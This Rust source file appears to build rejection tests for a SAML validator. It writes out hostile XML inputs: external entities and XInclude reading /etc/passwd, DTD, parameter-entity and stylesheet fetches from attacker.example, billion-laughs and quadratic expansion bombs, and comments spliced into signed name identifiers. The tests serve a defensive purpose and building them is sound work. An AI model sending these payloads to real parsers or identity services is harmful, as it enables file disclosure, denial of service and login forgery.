//! Parts of XML that messages must not have: document types, entities, comments, sections, instructions.

use vestibule_saml::Rule;
use vestibule_simulate::saml::{Element, Node};

use super::Group;
use super::forge::{Placement, part, replaced, sealed, signed_tree};

pub(crate) fn fill(group: &mut Group) -> anyhow::Result<()> {
    for placement in Placement::ALL {
        document_types(group, placement)?;
        entities(group, placement)?;
        remarks(group, placement)?;
        signed_remarks(group, placement)?;
        inclusion(group, placement)?;
    }
    Ok(())
}

fn document_types(group: &mut Group, placement: Placement) -> anyhow::Result<()> {
    let place = placement.name();
    let xml = sealed(placement)?.to_xml();
    for (name, text) in [
        ("bare", "<!DOCTYPE samlp:Response>"),
        ("empty-subset", "<!DOCTYPE x []>"),
        ("lower-case", "<!doctype x>"),
        (
            "system",
            "<!DOCTYPE x SYSTEM \"http://attacker.example/x.dtd\">",
        ),
        (
            "public",
            "<!DOCTYPE x PUBLIC \"-//X\" \"file:///etc/passwd\">",
        ),
        (
            "external-entity",
            "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>",
        ),
        (
            "parameter-entity",
            "<!DOCTYPE x [<!ENTITY % e SYSTEM \"http://attacker.example/x\"> %e;]>",
        ),
        (
            "id-attribute",
            "<!DOCTYPE x [<!ATTLIST saml:Issuer ID CDATA \"_assertion-1\">]>",
        ),
        (
            "default-namespace",
            "<!DOCTYPE x [<!ATTLIST samlp:Response xmlns:saml CDATA \"urn:example:x\">]>",
        ),
        ("notation", "<!DOCTYPE x [<!NOTATION n SYSTEM \"n\">]>"),
    ] {
        group.refuse(
            &format!("doctype/{name}-{place}"),
            &[Rule::Xml],
            &format!("{text}{xml}"),
        );
        let declared = format!("<?xml version=\"1.0\"?>\n{text}\n{xml}");
        let name = format!("doctype/{name}-after-declaration-{place}");
        group.refuse(&name, &[Rule::Xml], &declared);
    }
    let inside = replaced(&xml, "<samlp:Status>", "<!DOCTYPE x><samlp:Status>")?;
    group.refuse(&format!("doctype/inside-{place}"), &[Rule::Xml], &inside);
    let after = format!("{xml}<!DOCTYPE x>");
    group.refuse(&format!("doctype/after-{place}"), &[Rule::Xml], &after);
    Ok(())
}

/// Entities that grow, used in the place of the name identifier.
fn entities(group: &mut Group, placement: Placement) -> anyhow::Result<()> {
    let place = placement.name();
    let xml = sealed(placement)?.to_xml();
    let laughs: Vec<String> = (1..10)
        .map(|level| {
            let inner = format!("&l{};", level - 1).repeat(10);
            format!("<!ENTITY l{level} \"{inner}\">")
        })
        .collect();
    let long = "a".repeat(100_000);
    for (name, subset, used) in [
        (
            "admin",
            "<!ENTITY e \"admin-0001\">".to_owned(),
            "&e;".to_owned(),
        ),
        (
            "billion-laughs",
            format!("<!ENTITY l0 \"ha\">{}", laughs.concat()),
            "&l9;".to_owned(),
        ),
        (
            "quadratic",
            format!("<!ENTITY e \"{long}\">"),
            "&e;".repeat(10_000),
        ),
        (
            "recursive",
            "<!ENTITY a \"&b;\"><!ENTITY b \"&a;\">".to_owned(),
            "&a;".to_owned(),
        ),
        (
            "redefined-lt",
            "<!ENTITY lt \"&#38;#60;\">".to_owned(),
            "&lt;".to_owned(),
        ),
    ] {
        let used = replaced(&xml, ">ada-0001<", &format!(">{used}<"))?;
        let text = format!("<!DOCTYPE x [{subset}]>{used}");
        group.refuse(&format!("entity/{name}-{place}"), &[Rule::Xml], &text);
        // Also where nobody declared it.
        if name != "redefined-lt" {
            group.refuse(
                &format!("entity/{name}-undeclared-{place}"),
                &[Rule::Xml],
                &used,
            );
        }
    }
    Ok(())
}

const REMARKS: [(&str, &str); 6] = [
    ("comment", "<!---->"),
    ("long-comment", "<!-- a < b & c -->"),
    ("instruction", "<?x?>"),
    ("instruction-with-data", "<?x a=\"b\"?>"),
    ("section", "<![CDATA[]]>"),
    (
        "stylesheet",
        "<?xml-stylesheet href=\"http://attacker.example/x.xsl\"?>",
    ),
];

/// Put into a signed message afterwards: most canonical forms leave comments out, so the digest may still fit.
fn remarks(group: &mut Group, placement: Placement) -> anyhow::Result<()> {
    let place = placement.name();
    let xml = sealed(placement)?.to_xml();
    for (name, remark) in REMARKS {
        for (where_, text) in [
            ("before-root", format!("{remark}{xml}")),
            ("after-root", format!("{xml}{remark}")),
            (
                "name-id-start",
                replaced(&xml, ">ada-0001<", &format!(">{remark}ada-0001<"))?,
            ),
            (
                "name-id-middle",
                replaced(&xml, ">ada-0001<", &format!(">ada{remark}-0001<"))?,
            ),
            (
                "name-id-end",
                replaced(&xml, ">ada-0001<", &format!(">ada-0001{remark}<"))?,
            ),
            (
                "digest-value",
                replaced(
                    &xml,
                    "<ds:DigestValue>",
                    &format!("<ds:DigestValue>{remark}"),
                )?,
            ),
            (
                "digest-value-end",
                replaced(
                    &xml,
                    "</ds:DigestValue>",
                    &format!("{remark}</ds:DigestValue>"),
                )?,
            ),
            (
                "signature-value",
                replaced(
                    &xml,
                    "<ds:SignatureValue>",
                    &format!("<ds:SignatureValue>{remark}"),
                )?,
            ),
            (
                "signed-info",
                replaced(&xml, "<ds:SignedInfo>", &format!("<ds:SignedInfo>{remark}"))?,
            ),
            (
                "certificate",
                replaced(
                    &xml,
                    "<ds:X509Certificate>",
                    &format!("<ds:X509Certificate>{remark}"),
                )?,
            ),
            (
                "issuer",
                replaced(&xml, "</saml:Issuer>", &format!("{remark}</saml:Issuer>"))?,
            ),
            (
                "audience",
                replaced(
                    &xml,
                    "</saml:Audience>",
                    &format!("{remark}</saml:Audience>"),
                )?,
            ),
            (
                "attribute-value",
                replaced(&xml, ">ada@acme.test<", &format!(">ada@acme{remark}.test<"))?,
            ),
            (
                "status",
                replaced(&xml, "<samlp:Status>", &format!("<samlp:Status>{remark}"))?,
            ),
            (
                "inside-a-tag",
                replaced(&xml, "<samlp:Status>", &format!("<samlp:Status {remark}>"))?,
            ),
            (
                "inside-a-name",
                replaced(&xml, "<samlp:Status>", &format!("<samlp:{remark}Status>"))?,
            ),
        ] {
            let name = format!("remark/{name}-{where_}-{place}");
            group.refuse(&name, &[Rule::Xml], &text);
        }
    }
    Ok(())
}

/// Signed with the remark in place, by an identity provider where people choose their own names.
fn signed_remarks(group: &mut Group, placement: Placement) -> anyhow::Result<()> {
    let place = placement.name();
    for (name, remark, meant) in [
        ("comment", Node::Comment("<!-- -->".to_owned()), ""),
        (
            "instruction",
            Node::Raw("<?x?>".to_owned(), String::new()),
            "",
        ),
        (
            "section",
            Node::Raw("<![CDATA[.example]]>".to_owned(), ".example".to_owned()),
            ".example",
        ),
    ] {
        for local in ["NameID", "AttributeValue", "Audience", "Issuer"] {
            let xml = signed_tree(placement, |root| {
                let element = part(part(root, "Assertion")?, local)?;
                let text = element.inner_text();
                let (before, after) = text.split_at(3);
                element.children = vec![
                    Node::Text(before.to_owned()),
                    remark.clone(),
                    Node::Text(after.to_owned()),
                ];
                Ok(())
            })?;
            assert!(meant.is_empty() || xml.contains(meant));
            group.refuse(
                &format!("signed/{name}-in-{local}-{place}"),
                &[Rule::Xml],
                &xml,
            );
        }
    }
    Ok(())
}

/// Elements that make other libraries read files: they are foreign and stand where nothing foreign stands.
fn inclusion(group: &mut Group, placement: Placement) -> anyhow::Result<()> {
    let place = placement.name();
    let include = Element::new("xi:include")
        .namespace("xi", "http://www.w3.org/2001/XInclude")
        .attribute("href", "file:///etc/passwd")
        .attribute("parse", "text");
    for (local, rules) in [
        ("Response", [Rule::Form, Rule::Form]),
        ("Assertion", [Rule::Form, Rule::Form]),
        ("NameID", [Rule::Digest, Rule::NameId]),
    ] {
        let mut root = sealed(placement)?;
        let element = part(&mut root, local)?;
        element.insert(9, include.clone());
        let name = format!("inclusion/{local}-{place}");
        group.refuse(&name, &rules[..1], &root.to_xml());
        let xml = signed_tree(placement, |root| {
            let element = part(root, local)?;
            element.insert(9, include.clone());
            Ok(())
        })?;
        group.refuse(&format!("{name}-signed"), &rules[1..], &xml);
    }
    Ok(())
}
